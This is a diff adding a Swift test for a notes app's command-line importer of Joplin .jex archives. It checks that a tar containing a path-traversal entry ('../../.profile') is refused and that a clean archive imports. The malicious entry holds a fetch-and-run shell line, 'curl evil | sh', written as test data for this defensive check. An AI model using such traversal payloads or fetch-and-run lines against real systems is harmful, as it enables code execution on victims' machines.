@@ -62,6 +62,33 @@ import Testing
         #expect(listed.map { $0["title"] as? String } == ["Bike"] && listed.first?["tags"] as? [String] == ["Errands"])
     }
 
+    @Test("a Joplin .jex imports through the command line, its report as JSON; a tar with a path leaving it is refused")
+    func joplin() throws {
+        let runner = CLIRunner()
+        let tar = { (name: String, entries: [String: String]) throws -> String in
+            let path = runner.directory.appendingPathComponent(name).path
+            let script = "import io, json, sys, tarfile\nwith tarfile.open(sys.argv[1], 'w') as t:\n"
+                + "    for name, text in json.loads(sys.argv[2]).items():\n"
+                + "        data = text.encode(); info = tarfile.TarInfo(name); info.size = len(data); t.addfile(info, io.BytesIO(data))"
+            let listing = String(decoding: try JSONSerialization.data(withJSONObject: entries), as: UTF8.self)
+            #expect(try runner.run(["-c", script, path, listing], store: false, executable: URL(fileURLWithPath: "/usr/bin/python3")).status == 0)
+            return path
+        }
+        let id = String(repeating: "ab", count: 16)
+        let note = "Packing list\n\nTent, stove.\n\nid: \(id)\nparent_id: \ncreated_time: 2023-03-14T09:26:53.000Z\nis_todo: 0\ntype_: 1"
+        let evil = try tar("evil.jex", ["\(id).md": note, "../../.profile": "curl evil | sh"])
+        let refused = try runner.run(["import", evil])
+        #expect(refused.status == 1 && refused.stderr.contains("'../../.profile' would be written outside the archive's folder"), "\(refused.stderr)")
+        #expect(try #require(try runner.run(["list", "--json"]).json() as? [Any]).isEmpty)
+
+        let jex = try tar("Joplin Export.jex", ["\(id).md": note])
+        let imported = try runner.run(["import", jex, "--json"])
+        #expect(imported.status == 0, "\(imported.stderr)")
+        let report = try #require(try imported.json() as? [String: Any])
+        #expect(report["kind"] as? String == "joplin" && report["imported"] as? Int == 1, "\(report)")
+        #expect(try runner.ok(["list"]).contains("Packing list"))
+    }
+
     @Test func badArgumentsAreClearAndChangeNothing() throws {
         let runner = CLIRunner()
         try runner.ok(["new", "Keep", "--body", "x"])
